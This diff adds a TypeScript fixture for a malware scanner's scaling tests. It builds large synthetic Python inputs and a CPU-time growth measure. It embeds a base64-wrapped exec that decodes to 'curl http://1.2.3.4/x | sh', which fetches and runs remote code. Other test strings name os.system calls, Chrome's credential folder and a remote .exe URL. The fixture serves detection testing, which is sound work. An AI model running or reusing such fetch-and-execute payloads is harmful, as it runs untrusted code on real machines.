@@ -1,0 +1,123 @@
+// Inputs a package author can make as large as they like, each of about n characters, and a CPU-time
+// measure for scaling tests: doubling one of these may at most about double the time of any stage
+// (issue 15). The payload is a decoded exec that exec-decoded-payload must still find at either end.
+
+export const PAYLOAD =
+  "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEuMi4zLjQveCB8IHNoIik='))\n";
+
+/** Seeded hex digits (mulberry32), so every run builds the same text. */
+function hexDigits(seed: number, count: number): string {
+  let a = seed >>> 0;
+  let out = '';
+  for (let i = 0; i < count; i++) {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = Math.imul(a ^ (a >>> 15), a | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    out += '0123456789abcdef'[((t ^ (t >>> 14)) >>> 0) & 15];
+  }
+  return out;
+}
+
+const repeatTo = (unit: string, n: number) => unit.repeat(Math.max(1, Math.ceil(n / unit.length)));
+
+/** Lines built by `line(i)` until about n characters. */
+function lines(n: number, line: (i: number) => string): string {
+  const out: string[] = [];
+  for (let i = 0, size = 0; size < n; i++) {
+    const l = line(i);
+    out.push(l);
+    size += l.length + 1;
+  }
+  return `${out.join('\n')}\n`;
+}
+
+export const SHAPES: Record<string, (n: number) => string> = {
+  'comment lines': (n) => {
+    const hex = hexDigits(1, 64 * 64);
+    return lines(n, (i) => `# ${hex.slice((i % 64) * 64, (i % 64) * 64 + 64)}`);
+  },
+  'indented comment lines': (n) =>
+    `def f():\n    x = 1\n${repeatTo('    # 0123456789abcdef\n', n)}    return x\n`,
+  'long lines of code': (n) => lines(n, (i) => `x${i} = (${'a+'.repeat(2500)}a);${' f(1);'.repeat(30)}`),
+  'code after spaces': (n) => lines(n, () => `x = 1${' '.repeat(3000)}os.system('id')`),
+  'long line ending in spaces': (n) => `x = 1${' '.repeat(n)}\n`,
+  'tiny statements': (n) => repeatTo('x=1\n', n),
+  'one line of statements': (n) => `${repeatTo('f(1);', n)}\n`,
+  'deep nesting of calls': (n) => `x = ${repeatTo('f(', n)}\n`,
+  'deep nesting of brackets': (n) => `x = ${repeatTo('[', n)}\n`,
+  'deep nesting of blocks': (n) => {
+    let s = '';
+    for (let d = 0; s.length < n; d++) s += `${' '.repeat(d)}if x:\n`;
+    return s;
+  },
+  'many string literals': (n) =>
+    lines(n, (i) => `s${i} = 'C:/Users/u/AppData/Local/Google/Chrome/User Data http://1.2.3.4/a.exe ${i}'`),
+  'one huge string literal': (n) => `s = '${repeatTo('A1b2', n)}'\n`,
+  'many identical calls': (n) => repeatTo('os.system("id")\n', n),
+  'exec and decoder calls on one line': (n) => `${repeatTo('exec(d(x));', n)}\n`,
+  'chr chains': (n) => `x = ${repeatTo('chr(1)+', n)}chr(1)\n`,
+  'obfuscator markers': (n) => repeatTo('# pyarmor_runtime Hyperion Hyperion Hyperion\nf()\n', n),
+  'obfuscated names': (n) => lines(n, (i) => `_0x${i.toString(16).padStart(5, '0')} = IlIlIl${i % 7}`),
+  'imports and aliases': (n) => repeatTo('import os as o\nr = o.system\n', n),
+  'syntax errors': (n) => `${repeatTo(')(:', n)}\n`,
+  'f-strings': (n) => repeatTo('x = f"{a}{b(c)}{d}"\n', n),
+  'encoded literals': (n) =>
+    lines(n, (i) => `p${i} = '${Buffer.from(`import os\nos.system("echo ${i}")\n`).toString('base64')}'`),
+};
+
+export function withPayload(shape: string, n: number, at: 'start' | 'end'): string {
+  const make = SHAPES[shape];
+  if (!make) throw new Error(`unknown shape ${shape}`);
+  const body = make(n);
+  return at === 'start' ? PAYLOAD + body : `${body}\n${PAYLOAD}`;
+}
+
+/** CPU milliseconds (user + system) of `run`. */
+export function cpuMs(run: () => void): number {
+  const before = process.cpuUsage();
+  run();
+  const used = process.cpuUsage(before);
+  return (used.user + used.system) / 1000;
+}
+
+/**
+ * How much longer `run(large)` takes than `run(small)`, in CPU time: each side repeated enough times to take
+ * at least `floorMs` at the small size, alternated, and the best of `rounds` kept, so the figure holds on a
+ * loaded machine. A linear stage gives about 2 when large is twice small. Undefined when one run on the
+ * large input takes under `negligibleMs`: too short to time, and harmless at any size a file can have
+ * (even a square law would cost (1 MB / large)^2 times that).
+ */
+export function growth<T>(
+  run: (input: T) => unknown,
+  small: T,
+  large: T,
+  { floorMs = 15, rounds = 3, negligibleMs = 0 } = {},
+): number | undefined {
+  if (
+    negligibleMs > 0 &&
+    Math.min(
+      cpuMs(() => run(large)),
+      cpuMs(() => run(large)),
+    ) < negligibleMs
+  )
+    return undefined;
+  let times = 1;
+  while (cpuMs(() => repeat(run, small, times)) < floorMs && times < 1 << 16) times *= 2;
+  let best = Number.POSITIVE_INFINITY;
+  let bestLarge = Number.POSITIVE_INFINITY;
+  for (let r = 0; r < rounds; r++) {
+    best = Math.min(
+      best,
+      cpuMs(() => repeat(run, small, times)),
+    );
+    bestLarge = Math.min(
+      bestLarge,
+      cpuMs(() => repeat(run, large, times)),
+    );
+  }
+  return bestLarge / Math.max(best, 0.001);
+}
+
+function repeat<T>(run: (input: T) => unknown, input: T, times: number): void {
+  for (let i = 0; i < times; i++) run(input);
+}
